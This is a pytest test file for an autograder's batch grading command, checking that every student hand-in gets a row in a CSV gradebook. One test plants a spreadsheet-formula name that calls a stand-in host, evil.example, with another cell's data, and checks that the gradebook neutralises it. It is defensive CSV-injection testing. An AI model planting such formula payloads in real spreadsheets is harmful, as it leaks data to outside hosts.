"""`grade batch`: every submission graded, broken ones included, into results files and a CSV gradebook."""

from __future__ import annotations

import csv
import os
import shutil
import zipfile
from pathlib import Path

import pytest

from grader.instructor.batch import results_folder
from grader.rubric import load_rubric
from tests.support.corpus import MISTAKES, SOLUTION
from tests.support.grading import run_grade

pytestmark = pytest.mark.slow

ITEMS = [f"{item.number} {item.function}" for item in load_rubric().items]  # the gradebook's item columns


def zip_folder(folder: Path, archive: Path) -> Path:
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(folder.rglob("*.py")):
            zf.write(path, Path("handin") / path.relative_to(folder))
    return archive


def read_gradebook(path: Path) -> list[dict]:
    with open(path, newline="") as handle:
        return list(csv.DictReader(handle))


def test_a_batch_grades_every_submission_into_a_complete_gradebook(tmp_path, starter_root):
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    shutil.copytree(SOLUTION / "diffusion_hw", submissions / "ada" / "diffusion_hw")
    zip_folder(starter_root, submissions / "bo.zip")
    mistake = next(m for m in MISTAKES if m.name == "q_sample_missing_sqrt")
    mistake.build(submissions / "cy")
    (submissions / "dee.zip").write_bytes(b"not a zip at all")
    (submissions / "eve").mkdir()  # no diffusion_hw inside
    out = tmp_path / "out"

    run = run_grade("batch", str(submissions), "--jobs", "2", "--out", str(out))
    assert run.returncode == 0, run.stderr
    rows = {row["submission"]: row for row in read_gradebook(out / "gradebook.csv")}
    assert list(rows) == ["ada", "bo", "cy", "dee", "eve"]
    assert list(rows["ada"]) == ["submission", "student_id", *ITEMS, "total", "max", "status", "note"]
    for name, row in rows.items():
        assert all(row[item] != "" for item in ITEMS), (name, row)
        assert (results_folder(out, name) / "results.json").is_file()
    assert rows["ada"]["total"] == "130" and rows["bo"]["total"] == "0"
    assert rows["cy"]["2.1 q_sample"] == "0" and rows["cy"]["2.2 p_losses"] == "14" and rows["cy"]["total"] == "120"
    assert rows["dee"]["total"] == "0" and rows["eve"]["total"] == "0"
    assert rows["dee"]["status"] == "rejected" and "not a .zip" in rows["dee"]["note"]
    assert rows["eve"]["status"] == "rejected" and "no diffusion_hw/ package" in rows["eve"]["note"]
    assert rows["ada"]["status"] == "graded" and rows["ada"]["note"].startswith("in ")

    again = run_grade("batch", str(submissions), "--out", str(out))
    assert again.returncode == 0
    assert again.stdout.count("already graded") == 5
    kept = read_gradebook(out / "gradebook.csv")
    assert [(r["submission"], r["total"]) for r in kept] == [(r["submission"], r["total"]) for r in rows.values()]


def test_redo_grades_again(tmp_path):
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    (submissions / "only.zip").write_bytes(b"not a zip")
    out = tmp_path / "out"
    results_folder(out, "only").mkdir(parents=True)
    (results_folder(out, "only") / "results.json").write_text('{"score": 55, "tests": []}')
    skipped = run_grade("batch", str(submissions), "--out", str(out), "--public-only")
    assert "already graded" in skipped.stdout
    redone = run_grade("batch", str(submissions), "--out", str(out), "--redo", "--public-only")
    assert redone.returncode == 0, redone.stderr
    assert read_gradebook(out / "gradebook.csv")[0]["total"] == "0"


def test_hand_ins_named_like_the_batchs_own_files_or_like_formulas_cannot_break_the_gradebook(tmp_path):
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    (submissions / "gradebook.csv.zip").write_bytes(b"not a zip")  # its results folder was OUT/gradebook.csv/
    formula = '=HYPERLINK("evil.example?"&A1,"open")'
    for name in (formula, "-2+3", os.fsdecode(b"caf\xe9")):
        (submissions / name).mkdir()  # no diffusion_hw inside: rejected, quickly
    out = tmp_path / "out"

    run = run_grade("batch", str(submissions), "--out", str(out), "--public-only")
    assert run.returncode == 0, run.stderr
    rows = {row["submission"]: row for row in read_gradebook(out / "gradebook.csv")}
    assert set(rows) == {"gradebook.csv", "'" + formula, "'-2+3", "caf\ufffd"}
    assert all(row["status"] == "rejected" and row["total"] == "0" for row in rows.values())
    for name in ("gradebook.csv", formula, "-2+3", os.fsdecode(b"caf\xe9")):
        assert (results_folder(out, name) / "results.json").is_file(), name
    # no temporary file left
    assert sorted(p.name for p in out.iterdir()) == ["canvas.csv", "gradebook.csv", "submissions"]
    log = (results_folder(out, os.fsdecode(b"caf\xe9")) / "grading.log").read_text(errors="replace")
    assert "grade batch: caf\\udce9, started" in log  # the name, escaped

    again = run_grade("batch", str(submissions), "--out", str(out), "--public-only")
    assert again.returncode == 0, again.stderr
    assert again.stdout.count("already graded") == 4


def test_gradebook_cells_are_text_a_spreadsheet_shows_as_text():
    from grader.instructor.batch import spreadsheet_text

    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_text("+cmd") == "'+cmd" and spreadsheet_text("\tx") == "'\tx"
    assert spreadsheet_text("-0") == "-0" and spreadsheet_text("130") == "130" and spreadsheet_text("-inf") == "'-inf"
    assert spreadsheet_text("line one\r\n=line two") == "line one =line two"
    assert spreadsheet_text("x\udcff" * 1000).count("\ufffd") <= 500


def test_every_kind_of_hand_in_gets_a_row_and_an_empty_class_is_an_error(tmp_path):
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    (submissions / "fay.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    (submissions / "gus.tar.gz").write_bytes(b"\x1f\x8b not really")
    (submissions / "views.py").write_text("print('a loose file')\n")
    (submissions / ".DS_Store").write_bytes(b"")
    out = tmp_path / "out"
    run = run_grade("batch", str(submissions), "--out", str(out), "--public-only")
    assert run.returncode == 0, run.stderr
    rows = {row["submission"]: row for row in read_gradebook(out / "gradebook.csv")}
    assert list(rows) == ["fay", "gus.tar.gz", "views.py"]
    assert all(row["status"] == "rejected" and row["note"] and row["total"] == "0" for row in rows.values()), rows
    assert "not a .zip" in rows["gus.tar.gz"]["note"]
    empty = tmp_path / "empty"
    empty.mkdir()
    run = run_grade("batch", str(empty), "--out", str(tmp_path / "out2"))
    assert run.returncode == 2 and "holds no hand-ins" in run.stderr
